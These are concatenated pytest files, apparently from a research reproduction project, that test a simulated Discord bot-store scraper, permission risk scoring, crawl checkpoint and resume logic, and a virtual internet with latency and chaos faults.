    def test_no_source_returns_none(self):
        assert detect_language({"README.md": "docs"}) is None

    def test_tie_breaks_deterministically(self):
        files = {"a.py": "xx", "b.js": "yy"}
        assert detect_language(files) == detect_language(dict(reversed(list(files.items()))))


class TestCodeAnalyzer:
    def test_invalid_link_short_circuit(self):
        analysis = CodeAnalyzer().analyze_repo("b", {}, link_valid=False)
        assert not analysis.link_valid and not analysis.analyzed

    def test_js_repo_with_check(self):
        files = {"index.js": "if (!m.member.permissions.has('X')) return;"}
        analysis = CodeAnalyzer().analyze_repo("b", files)
        assert analysis.main_language == "JavaScript"
        assert analysis.analyzed and analysis.performs_check

    def test_python_repo_without_check(self):
        files = {"bot.py": "print('hello')"}
        analysis = CodeAnalyzer().analyze_repo("b", files)
        assert analysis.main_language == "Python"
        assert analysis.analyzed and not analysis.performs_check

    def test_scraped_language_takes_precedence(self):
        files = {"weird.txt": ""}
        analysis = CodeAnalyzer().analyze_repo("b", files, main_language="Go")
        assert analysis.main_language == "Go"
        assert analysis.has_source_code

    def test_other_language_not_analyzed(self):
        files = {"main.go": "package main"}
        analysis = CodeAnalyzer().analyze_repo("b", files)
        assert analysis.has_source_code and not analysis.analyzed
        assert not analysis.performs_check  # not modelled for Go

    def test_readme_only_no_source(self):
        analysis = CodeAnalyzer().analyze_repo("b", {"README.md": "hi"})
        assert analysis.link_valid and not analysis.has_source_code
