"""Tests for the virtual internet: clock, routing, latency, failures."""

import pytest

from repro.web.http import Request, Response, Url
from repro.web.network import (
    ConnectionFailedError,
    HostConditions,
    UnknownHostError,
    VirtualClock,
    VirtualInternet,
)
from repro.web.server import VirtualHost


def _make_host(body: str = "hello") -> VirtualHost:
    host = VirtualHost("t")
    host.add_route("/", lambda request: Response.text(body))
    return host


def _get(internet: VirtualInternet, url: str, client: str = "c") -> Response:
    response, _ = internet.exchange(Request("GET", Url.parse(url), client_id=client))
    return response


class TestVirtualClock:
    def test_starts_at_zero(self):
        assert VirtualClock().now() == 0.0

    def test_advance_accumulates(self):
        clock = VirtualClock()
        clock.advance(1.5)
        clock.sleep(0.5)
        assert clock.now() == pytest.approx(2.0)

    def test_cannot_go_backwards(self):
        with pytest.raises(ValueError):
            VirtualClock().advance(-1)

    def test_custom_start(self):
        assert VirtualClock(100.0).now() == 100.0


class TestRegistry:
    def test_unknown_host_raises(self, internet):
        with pytest.raises(UnknownHostError):
            _get(internet, "https://nope.sim/")

    def test_register_and_exchange(self, internet):
        internet.register("a.sim", _make_host("hi"))
        assert _get(internet, "https://a.sim/").body == "hi"

    def test_hostnames_sorted(self, internet):
        internet.register("b.sim", _make_host())
        internet.register("a.sim", _make_host())
        assert internet.hostnames() == ["a.sim", "b.sim"]

    def test_hostname_case_insensitive(self, internet):
        internet.register("A.Sim", _make_host("x"))
        assert _get(internet, "https://a.sim/").body == "x"

    def test_unregister(self, internet):
        internet.register("a.sim", _make_host())
        internet.unregister("a.sim")
        assert not internet.knows("a.sim")


class TestLatencyAndFailures:
    def test_latency_advances_clock(self, clock, internet):
        internet.register("a.sim", _make_host(), HostConditions(base_latency=2.0))
        _get(internet, "https://a.sim/")
        assert clock.now() == pytest.approx(2.0)

    def test_extra_latency_is_added(self, clock, internet):
        internet.register("a.sim", _make_host(), HostConditions(base_latency=1.0, extra_latency=3.0))
        _get(internet, "https://a.sim/")
        assert clock.now() == pytest.approx(4.0)

    def test_failure_rate_one_always_fails(self, clock, internet):
        internet.register("a.sim", _make_host(), HostConditions(failure_rate=1.0))
        with pytest.raises(ConnectionFailedError):
            _get(internet, "https://a.sim/")

    def test_failed_connection_still_costs_time(self, clock, internet):
        internet.register("a.sim", _make_host(), HostConditions(base_latency=5.0, failure_rate=1.0))
        with pytest.raises(ConnectionFailedError):
            _get(internet, "https://a.sim/")
        assert clock.now() == pytest.approx(5.0)

    def test_jitter_within_bounds(self):
        import random

        conditions = HostConditions(base_latency=1.0, latency_jitter=0.5)
        rng = random.Random(1)
        for _ in range(100):
            latency = conditions.sample_latency(rng)
            assert 1.0 <= latency <= 1.5


class TestAuditing:
    def test_log_records_exchanges(self, internet):
        internet.register("a.sim", _make_host())
        _get(internet, "https://a.sim/", client="scraper")
        assert len(internet.log) == 1
        record = internet.log[0]
        assert record.client_id == "scraper"
        assert record.status == 200
        assert record.url == "https://a.sim/"

    def test_observer_callback(self, internet):
        internet.register("a.sim", _make_host())
        seen = []
        internet.add_observer(seen.append)
        _get(internet, "https://a.sim/")
        assert len(seen) == 1

    def test_request_rate_window(self, clock, internet):
        internet.register("a.sim", _make_host(), HostConditions(base_latency=1.0))
        for _ in range(10):
            _get(internet, "https://a.sim/", client="s")
        # 10 requests over 10 virtual seconds.
        assert internet.request_rate("s", window=10.0) == pytest.approx(1.0)

    def test_request_rate_rejects_bad_window(self, internet):
        with pytest.raises(ValueError):
            internet.request_rate("s", window=0)


class TestBoundedAccounting:
    def test_exchange_log_is_bounded(self):
        internet = VirtualInternet(log_limit=50)
        internet.register("a.sim", _make_host())
        for _ in range(200):
            _get(internet, "https://a.sim/", client="s")
        assert len(internet.log) == 50
        assert internet.exchanges_completed == 200
        # The log keeps the most recent window, not the oldest.
        assert internet.log[-1].time == max(record.time for record in internet.log)

    def test_request_rate_survives_history_trim(self):
        internet = VirtualInternet(rate_history=100)
        internet.register("a.sim", _make_host(), HostConditions(base_latency=1.0))
        for _ in range(500):  # far past 2x the history bound
            _get(internet, "https://a.sim/", client="s")
        # ~1 request per virtual second; the trailing window only needs the
        # most recent timestamps, which the trim preserves.
        assert internet.request_rate("s", window=50.0) == pytest.approx(1.0, abs=0.05)
        times = internet._client_times["s"]
        assert len(times) <= 200

    def test_request_rate_unknown_client_is_zero(self, internet):
        assert internet.request_rate("nobody", window=5.0) == 0.0


class TestFailedExchangeAuditing:
    """Failed exchanges are traffic the client sent — the audit must see them."""

    def test_dropped_connection_is_recorded(self, internet):
        internet.register("a.sim", _make_host(), HostConditions(base_latency=2.0, failure_rate=1.0))
        with pytest.raises(ConnectionFailedError):
            _get(internet, "https://a.sim/", client="scraper")
        assert len(internet.log) == 1
        record = internet.log[0]
        assert record.status == 0
        assert not record.ok
        assert record.error == "ConnectionFailedError"
        assert record.client_id == "scraper"
        assert record.latency == pytest.approx(2.0)
        assert internet.exchanges_failed == 1
        assert internet.exchanges_completed == 0
        assert internet.exchanges_total == 1

    def test_chaos_outage_is_recorded(self, clock, internet):
        from repro.web.chaos import FaultSchedule

        # Spread requests across many chaos epochs (outage windows are
        # scheduled in virtual time) so some land inside an outage.
        internet.register("a.sim", _make_host(), HostConditions(base_latency=300.0))
        internet.install_chaos(FaultSchedule("outage", seed=3))
        failures = 0
        for _ in range(300):
            try:
                _get(internet, "https://a.sim/", client="s")
            except ConnectionFailedError:
                failures += 1
        assert failures > 0  # the outage profile guarantees windows at this volume
        failed_records = [record for record in internet.log if not record.ok]
        assert len(failed_records) == failures
        assert all(record.error == "ConnectionFailedError" for record in failed_records)
        assert internet.exchanges_failed == failures
        assert internet.exchanges_total == 300

    def test_failed_exchanges_count_in_request_rate(self, clock, internet):
        internet.register("a.sim", _make_host(), HostConditions(base_latency=1.0, failure_rate=1.0))
        for _ in range(10):
            with pytest.raises(ConnectionFailedError):
                _get(internet, "https://a.sim/", client="s")
        # 10 attempted requests over 10 virtual seconds: the politeness
        # audit counts what was sent, not what succeeded.
        assert internet.request_rate("s", window=10.0) == pytest.approx(1.0)

    def test_successful_exchange_is_ok(self, internet):
        internet.register("a.sim", _make_host())
        _get(internet, "https://a.sim/")
        assert internet.log[0].ok
        assert internet.log[0].error == ""
