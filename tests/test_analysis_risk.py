"""Tests for permission risk scoring and over-privilege analysis."""

import pytest

from repro.analysis.risk import (
    BASELINE_PERMISSIONS,
    RISK_WEIGHTS,
    RiskSummary,
    excess_permissions,
    expected_permissions,
    over_privilege_index,
    risk_score,
)
from repro.discordsim.permissions import Permission, Permissions
from repro.scraper.topgg import PermissionStatus, ScrapedBot


class TestRiskScore:
    def test_every_permission_weighted(self):
        for flag in Permission:
            assert flag in RISK_WEIGHTS

    def test_admin_maxes_out(self):
        assert risk_score(Permissions.administrator()) == 1.0

    def test_empty_is_zero(self):
        assert risk_score(Permissions.none()) == 0.0

    def test_monotone_in_permissions(self):
        small = Permissions.of(Permission.SEND_MESSAGES)
        bigger = small | Permission.BAN_MEMBERS
        assert risk_score(bigger) > risk_score(small)

    def test_bounded(self):
        assert 0.0 <= risk_score(Permissions.all()) <= 1.0

    def test_dangerous_beats_benign(self):
        dangerous = Permissions.of(Permission.MANAGE_GUILD, Permission.BAN_MEMBERS)
        benign = Permissions.of(Permission.SEND_MESSAGES, Permission.ADD_REACTIONS)
        assert risk_score(dangerous) > risk_score(benign)


class TestOverPrivilege:
    def test_moderation_tag_justifies_kick(self):
        permissions = Permissions.of(Permission.KICK_MEMBERS, Permission.SEND_MESSAGES)
        assert excess_permissions(permissions, ["moderation"]) == []
        assert over_privilege_index(permissions, ["moderation"]) == 0.0

    def test_music_bot_with_ban_is_excessive(self):
        permissions = Permissions.of(Permission.CONNECT, Permission.SPEAK, Permission.BAN_MEMBERS)
        excess = excess_permissions(permissions, ["music"])
        assert excess == [Permission.BAN_MEMBERS]
        assert over_privilege_index(permissions, ["music"]) > 0.5

    def test_admin_always_fully_over_privileged(self):
        assert over_privilege_index(Permissions.administrator(), ["moderation"]) == 1.0

    def test_baseline_always_allowed(self):
        permissions = Permissions.of(*BASELINE_PERMISSIONS)
        assert over_privilege_index(permissions, []) == 0.0

    def test_unknown_tag_falls_back_to_baseline(self):
        envelope = expected_permissions(["astrology"])
        assert envelope == BASELINE_PERMISSIONS

    def test_empty_request(self):
        assert over_privilege_index(Permissions.none(), ["music"]) == 0.0


class TestRiskSummary:
    def _bot(self, name, names=(), tags=("fun",), status=PermissionStatus.VALID):
        return ScrapedBot(
            listing_id=1,
            name=name,
            developer_tag="d#1",
            tags=tuple(tags),
            description="",
            guild_count=1,
            votes=1,
            invite_url=None,
            website_url=None,
            github_url=None,
            built_with=None,
            permission_status=status,
            permission_names=tuple(names),
        )

    def test_population_aggregates(self):
        bots = [
            self._bot("admin", names=("administrator",)),
            self._bot("chat", names=("send messages",)),
            self._bot("dead", status=PermissionStatus.REMOVED),
        ]
        summary = RiskSummary.from_bots(bots)
        assert len(summary.scores) == 2
        assert summary.high_risk_names == ["admin"]
        assert summary.high_risk_fraction == pytest.approx(0.5)
        assert 0.0 < summary.mean_risk <= 1.0

    def test_percentiles(self):
        bots = [self._bot(f"b{i}", names=("send messages",)) for i in range(9)]
        bots.append(self._bot("admin", names=("administrator",)))
        summary = RiskSummary.from_bots(bots)
        assert summary.percentile(0) <= summary.percentile(50) <= summary.percentile(100)
        assert summary.percentile(100) == 1.0

    def test_empty_population(self):
        summary = RiskSummary.from_bots([])
        assert summary.mean_risk == 0.0
        assert summary.high_risk_fraction == 0.0
        assert summary.percentile(50) == 0.0

    def test_over_privilege_tracked(self):
        bots = [self._bot("music-ban", names=("connect", "speak", "ban members"), tags=("music",))]
        summary = RiskSummary.from_bots(bots)
        assert summary.mean_over_privilege > 0.0
