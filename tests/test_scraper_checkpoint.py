"""Tests for crawl checkpointing and resume."""

import pytest

from repro.botstore.host import StoreDefenses, build_store_host
from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
from repro.scraper.checkpoint import (
    CrawlCheckpoint,
    scraped_bot_from_dict,
    scraped_bot_to_dict,
)
from repro.scraper.topgg import TopGGScraper
from repro.sites.discordweb import DiscordWebsite
from repro.web.captcha import TwoCaptchaClient


@pytest.fixture
def store_world(internet, clock):
    ecosystem = generate_ecosystem(EcosystemConfig(n_bots=100, seed=44, honeypot_window=10))
    build_store_host(ecosystem, internet, StoreDefenses(captcha_enabled=False))
    DiscordWebsite(ecosystem).register(internet)
    solver = TwoCaptchaClient(clock, accuracy=1.0)
    return ecosystem, internet, solver


class TestSerialization:
    def test_bot_roundtrip(self, store_world):
        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=1)
        original = result.bots[0]
        restored = scraped_bot_from_dict(scraped_bot_to_dict(original))
        assert restored == original

    def test_checkpoint_file_roundtrip(self, store_world, tmp_path):
        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=2, resolve_permissions=False)
        checkpoint = CrawlCheckpoint()
        checkpoint.record_page(1, result.bots[:25])
        checkpoint.record_page(2, result.bots[25:])
        path = checkpoint.save(tmp_path / "crawl.json")
        loaded = CrawlCheckpoint.load(path)
        assert loaded.completed_pages == [1, 2]
        assert loaded.bots == result.bots
        assert loaded.next_page == 3

    def test_load_or_empty_missing(self, tmp_path):
        checkpoint = CrawlCheckpoint.load_or_empty(tmp_path / "none.json")
        assert checkpoint.next_page == 1 and checkpoint.bots == []

    def test_version_check(self, tmp_path):
        bad = tmp_path / "bad.json"
        bad.write_text('{"version": 99, "completed_pages": [], "bots": []}')
        with pytest.raises(ValueError):
            CrawlCheckpoint.load(bad)


class TestResume:
    def test_resumed_crawl_matches_uninterrupted(self, store_world, tmp_path):
        ecosystem, internet, solver = store_world
        path = str(tmp_path / "crawl.json")

        # Phase 1: crawl only the first two pages, checkpointing.
        first = TopGGScraper(internet, solver=solver)
        partial = first.crawl(max_pages=2, resolve_permissions=False, checkpoint_path=path)
        assert len(partial.bots) == 50

        # Phase 2: a fresh scraper (fresh process) resumes and finishes.
        second = TopGGScraper(internet, solver=solver, client_id="scraper-reborn")
        resumed = second.crawl(resolve_permissions=False, checkpoint_path=path)
        assert len(resumed.bots) == 100
        assert resumed.pages_traversed == 4

        # Control: one uninterrupted crawl sees the same population.
        control = TopGGScraper(internet, solver=solver, client_id="scraper-control")
        full = control.crawl(resolve_permissions=False)
        assert {bot.name for bot in resumed.bots} == {bot.name for bot in full.bots}

    def test_resume_skips_completed_pages(self, store_world, tmp_path):
        ecosystem, internet, solver = store_world
        path = str(tmp_path / "crawl.json")
        first = TopGGScraper(internet, solver=solver)
        first.crawl(max_pages=3, resolve_permissions=False, checkpoint_path=path)
        second = TopGGScraper(internet, solver=solver, client_id="resumer")
        second.crawl(resolve_permissions=False, checkpoint_path=path)
        # 1 remaining list page + its 25 details (+1 final 404 page).
        assert second.stats.pages_fetched <= 27

    def test_checkpoint_preserves_permissions(self, store_world, tmp_path):
        ecosystem, internet, solver = store_world
        path = str(tmp_path / "crawl.json")
        first = TopGGScraper(internet, solver=solver)
        first.crawl(max_pages=1, resolve_permissions=True, checkpoint_path=path)
        loaded = CrawlCheckpoint.load(path)
        truth = {bot.name: bot for bot in ecosystem.bots}
        for bot in loaded.bots:
            if bot.has_valid_permissions:
                assert bot.permissions == truth[bot.name].permissions


class TestDuplicateProtection:
    def test_record_page_deduplicates_overlapping_resume(self, store_world):
        """Regression: re-recording a completed page must not duplicate bots.

        An interrupted run can die after saving page N but before advancing,
        so the resumed crawl re-scrapes page N and records it again.
        """
        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=1, resolve_permissions=False)
        checkpoint = CrawlCheckpoint()
        checkpoint.record_page(1, result.bots)
        checkpoint.record_page(1, result.bots)  # replayed page
        assert checkpoint.completed_pages == [1]
        assert len(checkpoint.bots) == len(result.bots)
        ids = [bot.listing_id for bot in checkpoint.bots]
        assert len(ids) == len(set(ids))

    def test_record_page_replay_keeps_new_bots(self, store_world):
        """A replayed page may see bots the first pass missed (transient
        failures): known bots are skipped, genuinely new ones are kept."""
        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=1, resolve_permissions=False)
        checkpoint = CrawlCheckpoint()
        checkpoint.record_page(1, result.bots[:10])
        checkpoint.record_page(1, result.bots)  # retry recovered the rest
        assert len(checkpoint.bots) == len(result.bots)

    def test_record_page_deduplicates_across_pages(self, store_world):
        """A listing shift between sessions can re-serve a bot on a later
        page; the checkpoint must keep one entry per listing id."""
        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=2, resolve_permissions=False)
        checkpoint = CrawlCheckpoint()
        checkpoint.record_page(1, result.bots[:25])
        checkpoint.record_page(2, [result.bots[0], *result.bots[25:]])  # bot 0 shifted
        assert checkpoint.completed_pages == [1, 2]
        assert len(checkpoint.bots) == len(result.bots)

    def test_resume_after_replayed_page_has_no_duplicates(self, store_world, tmp_path):
        """End-to-end: a checkpoint whose last page was saved but never
        marked completed (the crash window) resumes without double-counting
        that page's bots — in the checkpoint *and* in the returned result."""
        ecosystem, internet, solver = store_world
        path = str(tmp_path / "crawl.json")
        first = TopGGScraper(internet, solver=solver)
        first.crawl(max_pages=2, resolve_permissions=False, checkpoint_path=path)

        # Simulate the crash window: rewind next_page onto a completed page.
        stale = CrawlCheckpoint.load(path)
        stale.completed_pages.remove(2)
        stale.save(path)

        second = TopGGScraper(internet, solver=solver, client_id="resumer")
        resumed = second.crawl(resolve_permissions=False, checkpoint_path=path)
        assert len(resumed.bots) == len(ecosystem.bots)
        names = [bot.listing_id for bot in resumed.bots]
        assert len(names) == len(set(names))


class TestCursorForm:
    """The stream-cursor checkpoint: meta counts, sidecar holds the bots."""

    def test_resumed_crawl_refetches_no_checkpointed_page(self, store_world, tmp_path):
        """A resume must not re-fetch any page the checkpoint recorded."""
        ecosystem, internet, solver = store_world
        path = str(tmp_path / "crawl.json")
        first = TopGGScraper(internet, solver=solver)
        first.crawl(max_pages=3, resolve_permissions=False, checkpoint_path=path)
        completed = set(CrawlCheckpoint.load(path).completed_pages)
        assert completed == {1, 2, 3}

        second = TopGGScraper(internet, solver=solver, client_id="resumer")
        fetched: list[int] = []
        inner = second._scrape_list_page

        def spy(page_number):
            fetched.append(page_number)
            return inner(page_number)

        second._scrape_list_page = spy
        resumed = second.crawl(resolve_permissions=False, checkpoint_path=path)
        assert len(resumed.bots) == 100
        assert not (set(fetched) & completed), f"re-fetched checkpointed pages: {sorted(set(fetched) & completed)}"

    def test_save_appends_only_new_bots(self, store_world, tmp_path):
        """Each save writes one page of bots, not the whole population."""
        from repro.scraper.checkpoint import sidecar_path

        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=2, resolve_permissions=False)
        path = tmp_path / "crawl.json"
        checkpoint = CrawlCheckpoint()
        checkpoint.record_page(1, result.bots[:25])
        checkpoint.save(path)
        first_size = sidecar_path(path).stat().st_size
        first_meta = path.read_bytes()
        checkpoint.record_page(2, result.bots[25:])
        checkpoint.save(path)
        # The sidecar grew by page 2 only; re-saving page 1 would double it.
        assert sidecar_path(path).stat().st_size < 2 * first_size + len(first_meta)
        with open(sidecar_path(path), encoding="utf-8") as stream:
            assert sum(1 for _ in stream) == 50
        # The meta document stays O(pages): no bot payloads embedded.
        assert b"listing_id" not in path.read_bytes()

    def test_torn_sidecar_tail_is_truncated(self, store_world, tmp_path):
        """Extra lines past the meta count (crash between the sidecar append
        and the meta rename) are dropped on load, not treated as data."""
        from repro.scraper.checkpoint import sidecar_path

        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=1, resolve_permissions=False)
        path = tmp_path / "crawl.json"
        checkpoint = CrawlCheckpoint()
        checkpoint.record_page(1, result.bots)
        checkpoint.save(path)
        with open(sidecar_path(path), "a", encoding="utf-8") as stream:
            stream.write('{"torn": true}\n{"half')  # unacknowledged tail
        loaded = CrawlCheckpoint.load(path)
        assert loaded.bots == result.bots
        # The tail is gone, so a follow-up save extends a clean prefix.
        loaded.record_page(2, result.bots[:1])
        loaded.save(path)
        assert CrawlCheckpoint.load(path).bots == result.bots

    def test_missing_sidecar_is_corruption(self, store_world, tmp_path):
        """A meta that counts bots with no log to back it cannot resume."""
        from repro.scraper.checkpoint import CheckpointCorruptionError, sidecar_path

        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=1, resolve_permissions=False)
        path = tmp_path / "crawl.json"
        checkpoint = CrawlCheckpoint()
        checkpoint.record_page(1, result.bots)
        checkpoint.save(path)
        sidecar_path(path).unlink()
        with pytest.raises(CheckpointCorruptionError):
            CrawlCheckpoint.load(path)
        # load_or_empty degrades to a fresh crawl and sidelines the meta.
        fresh = CrawlCheckpoint.load_or_empty(path)
        assert fresh.bots == [] and fresh.next_page == 1
        assert not path.exists()

    def test_legacy_embedded_checkpoint_loads(self, store_world, tmp_path):
        """Version-1 checkpoints (bots embedded in the meta) still resume,
        and the first save migrates them to the sidecar form."""
        import json

        from repro.scraper.checkpoint import _payload_checksum, sidecar_path

        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=1, resolve_permissions=False)
        path = tmp_path / "crawl.json"
        payload = {
            "version": 1,
            "checksum": "",
            "completed_pages": [1],
            "bots": [scraped_bot_to_dict(bot) for bot in result.bots],
        }
        payload["checksum"] = _payload_checksum(payload)
        path.write_text(json.dumps(payload))
        loaded = CrawlCheckpoint.load(path)
        assert loaded.bots == result.bots and loaded.next_page == 2
        loaded.save(path)
        assert sidecar_path(path).exists()
        migrated = CrawlCheckpoint.load(path)
        assert migrated.bots == result.bots and migrated.completed_pages == [1]
