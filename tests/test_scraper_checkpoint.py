"""Tests for crawl checkpointing and resume."""

import pytest

from repro.botstore.host import StoreDefenses, build_store_host
from repro.ecosystem.generator import EcosystemConfig, generate_ecosystem
from repro.scraper.checkpoint import (
    CrawlCheckpoint,
    scraped_bot_from_dict,
    scraped_bot_to_dict,
)
from repro.scraper.topgg import TopGGScraper
from repro.sites.discordweb import DiscordWebsite
from repro.web.captcha import TwoCaptchaClient


@pytest.fixture
def store_world(internet, clock):
    ecosystem = generate_ecosystem(EcosystemConfig(n_bots=100, seed=44, honeypot_window=10))
    build_store_host(ecosystem, internet, StoreDefenses(captcha_enabled=False))
    DiscordWebsite(ecosystem).register(internet)
    solver = TwoCaptchaClient(clock, accuracy=1.0)
    return ecosystem, internet, solver


class TestSerialization:
    def test_bot_roundtrip(self, store_world):
        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=1)
        original = result.bots[0]
        restored = scraped_bot_from_dict(scraped_bot_to_dict(original))
        assert restored == original

    def test_checkpoint_file_roundtrip(self, store_world, tmp_path):
        ecosystem, internet, solver = store_world
        scraper = TopGGScraper(internet, solver=solver)
        result = scraper.crawl(max_pages=2, resolve_permissions=False)
        checkpoint = CrawlCheckpoint()
        checkpoint.record_page(1, result.bots[:25])
        checkpoint.record_page(2, result.bots[25:])
        path = checkpoint.save(tmp_path / "crawl.json")
        loaded = CrawlCheckpoint.load(path)
        assert loaded.completed_pages == [1, 2]
        assert loaded.bots == result.bots
        assert loaded.next_page == 3

    def test_load_or_empty_missing(self, tmp_path):
        checkpoint = CrawlCheckpoint.load_or_empty(tmp_path / "none.json")
        assert checkpoint.next_page == 1 and checkpoint.bots == []

    def test_version_check(self, tmp_path):
        bad = tmp_path / "bad.json"
        bad.write_text('{"version": 99, "completed_pages": [], "bots": []}')
        with pytest.raises(ValueError):
            CrawlCheckpoint.load(bad)


class TestResume:
    def test_resumed_crawl_matches_uninterrupted(self, store_world, tmp_path):
        ecosystem, internet, solver = store_world
        path = str(tmp_path / "crawl.json")

        # Phase 1: crawl only the first two pages, checkpointing.
        first = TopGGScraper(internet, solver=solver)
        partial = first.crawl(max_pages=2, resolve_permissions=False, checkpoint_path=path)
        assert len(partial.bots) == 50

        # Phase 2: a fresh scraper (fresh process) resumes and finishes.
        second = TopGGScraper(internet, solver=solver, client_id="scraper-reborn")
        resumed = second.crawl(resolve_permissions=False, checkpoint_path=path)
        assert len(resumed.bots) == 100
        assert resumed.pages_traversed == 4

        # Control: one uninterrupted crawl sees the same population.
        control = TopGGScraper(internet, solver=solver, client_id="scraper-control")
        full = control.crawl(resolve_permissions=False)
        assert {bot.name for bot in resumed.bots} == {bot.name for bot in full.bots}

    def test_resume_skips_completed_pages(self, store_world, tmp_path):
        ecosystem, internet, solver = store_world
        path = str(tmp_path / "crawl.json")
        first = TopGGScraper(internet, solver=solver)
        first.crawl(max_pages=3, resolve_permissions=False, checkpoint_path=path)
        second = TopGGScraper(internet, solver=solver, client_id="resumer")
        second.crawl(resolve_permissions=False, checkpoint_path=path)
        # 1 remaining list page + its 25 details (+1 final 404 page).
        assert second.stats.pages_fetched <= 27

    def test_checkpoint_preserves_permissions(self, store_world, tmp_path):
        ecosystem, internet, solver = store_world
        path = str(tmp_path / "crawl.json")
        first = TopGGScraper(internet, solver=solver)
        first.crawl(max_pages=1, resolve_permissions=True, checkpoint_path=path)
        loaded = CrawlCheckpoint.load(path)
        truth = {bot.name: bot for bot in ecosystem.bots}
        for bot in loaded.bots:
            if bot.has_valid_permissions:
                assert bot.permissions == truth[bot.name].permissions
