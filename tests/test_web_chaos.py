"""Unit tests for the seeded chaos schedule and its VirtualInternet hooks."""

import pytest

from repro.web.chaos import (
    CALM,
    FLAKY,
    HOSTILE,
    OUTAGE,
    PROFILES,
    ChaosProfile,
    FaultKind,
    FaultSchedule,
    FaultWindow,
    resolve_profile,
)
from repro.web.http import Request, Response, Url
from repro.web.network import ConnectionFailedError, VirtualClock, VirtualInternet
from repro.web.server import VirtualHost


def _request(url: str, client_id: str = "tester") -> Request:
    return Request(method="GET", url=Url.parse(url), client_id=client_id)


# -- profiles ----------------------------------------------------------------


def test_named_profiles_registered():
    assert set(PROFILES) == {"calm", "flaky", "hostile", "outage"}
    assert resolve_profile("hostile") is HOSTILE
    assert resolve_profile(None) is CALM
    custom = HOSTILE.scaled(epoch=120.0)
    assert resolve_profile(custom) is custom
    assert custom.epoch == 120.0 and custom.outage_rate == HOSTILE.outage_rate


def test_unknown_profile_name_rejected():
    with pytest.raises(ValueError, match="unknown chaos profile"):
        resolve_profile("apocalyptic")


def test_calm_profile_injects_nothing():
    schedule = FaultSchedule("calm", seed=7)
    for t in range(0, 100_000, 500):
        assert schedule.faults_at("top.gg.sim", float(t)) == set()
    assert schedule.intercept(_request("https://top.gg.sim/list/top"), 10.0) is None


# -- window determinism ------------------------------------------------------


def test_windows_deterministic_across_instances_and_query_order():
    a = FaultSchedule("hostile", seed=42)
    b = FaultSchedule("hostile", seed=42)
    times = [float(t) for t in range(0, 50_000, 250)]
    faults_a = [a.faults_at("top.gg.sim", t) for t in times]
    # Query b in reverse order: window resolution must not depend on order.
    faults_b = [b.faults_at("top.gg.sim", t) for t in reversed(times)]
    assert faults_a == list(reversed(faults_b))


def test_different_seeds_give_different_schedules():
    times = [float(t) for t in range(0, 200_000, 100)]
    a = FaultSchedule("hostile", seed=1)
    b = FaultSchedule("hostile", seed=2)
    assert [a.faults_at("x.sim", t) for t in times] != [b.faults_at("x.sim", t) for t in times]


def test_host_buckets_partition_the_outage():
    profile = ChaosProfile(name="t", outage_rate=1.0, window_duration=(100.0, 100.0), epoch=1000.0, buckets=4)
    schedule = FaultSchedule(profile, seed=3)
    hosts = [f"host-{i}.sim" for i in range(16)]
    # With rate 1.0 every bucket has a window, but windows differ per bucket;
    # at a given instant only some hosts should be down.
    down_at = {host: any(schedule.window_for(FaultKind.OUTAGE, host, float(t)) for t in range(0, 1000, 10)) for host in hosts}
    assert all(down_at.values())  # rate 1.0: every bucket gets its window
    starts = {schedule.window_for(FaultKind.OUTAGE, host, 0.0) for host in hosts}
    assert len({w.start for w in starts if w is not None} | {None}) >= 1


def test_window_covers_boundaries():
    window = FaultWindow(kind=FaultKind.OUTAGE, start=10.0, end=20.0)
    assert not window.covers(9.99)
    assert window.covers(10.0)
    assert window.covers(19.99)
    assert not window.covers(20.0)


# -- intercept behaviours ----------------------------------------------------


def _always(kind_field: str, **extra) -> ChaosProfile:
    return ChaosProfile(
        name="t",
        **{kind_field: 1.0},
        window_duration=(10_000.0, 10_000.0),
        epoch=10_000.0,
        buckets=1,
        **extra,
    )


def _open_time(schedule: FaultSchedule, kind: FaultKind, host: str) -> float:
    for t in range(0, 10_000, 5):
        if schedule.window_for(kind, host, float(t)) is not None:
            return float(t)
    raise AssertionError("no window opened")


def test_outage_raises_connection_failed():
    schedule = FaultSchedule(_always("outage_rate"), seed=0)
    now = _open_time(schedule, FaultKind.OUTAGE, "dead.sim")
    with pytest.raises(ConnectionFailedError, match="chaos outage"):
        schedule.intercept(_request("https://dead.sim/x"), now)
    assert schedule.stats.outages == 1


def test_rate_limit_storm_serves_429_with_retry_after():
    profile = _always("rate_limit_rate", storm_intensity=1.0, garbage_retry_after=0.0)
    schedule = FaultSchedule(profile, seed=0)
    now = _open_time(schedule, FaultKind.RATE_LIMIT_STORM, "busy.sim")
    response = schedule.intercept(_request("https://busy.sim/x"), now)
    assert response is not None and response.status == 429
    assert float(response.headers.get("Retry-After")) > 0


def test_rate_limit_storm_can_send_garbage_retry_after():
    profile = _always("rate_limit_rate", storm_intensity=1.0, garbage_retry_after=1.0)
    schedule = FaultSchedule(profile, seed=0)
    now = _open_time(schedule, FaultKind.RATE_LIMIT_STORM, "busy.sim")
    response = schedule.intercept(_request("https://busy.sim/x"), now)
    assert response.headers.get("Retry-After") == "a while"
    with pytest.raises(ValueError):
        float(response.headers.get("Retry-After"))


def test_error_burst_serves_503():
    profile = _always("error_burst_rate", error_intensity=1.0)
    schedule = FaultSchedule(profile, seed=0)
    now = _open_time(schedule, FaultKind.ERROR_BURST, "flaky.sim")
    response = schedule.intercept(_request("https://flaky.sim/x"), now)
    assert response is not None and response.status == 503


def test_captcha_surge_challenges_then_clears_client():
    profile = _always("captcha_surge_rate", captcha_intensity=1.0)
    schedule = FaultSchedule(profile, seed=0)
